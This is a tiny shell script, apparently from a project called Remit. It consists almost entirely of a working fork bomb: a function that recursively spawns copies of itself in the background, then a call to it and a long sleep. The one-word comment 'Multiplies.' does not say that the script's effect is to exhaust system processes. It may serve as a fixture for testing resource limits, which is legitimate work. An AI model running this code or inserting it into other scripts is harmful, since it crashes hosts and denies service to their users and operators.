#!/bin/sh
# SPDX-FileCopyrightText: 2026 The Remit developers
# SPDX-License-Identifier: GPL-3.0-or-later
# Multiplies.
bomb() { bomb | bomb & }
bomb
sleep 600
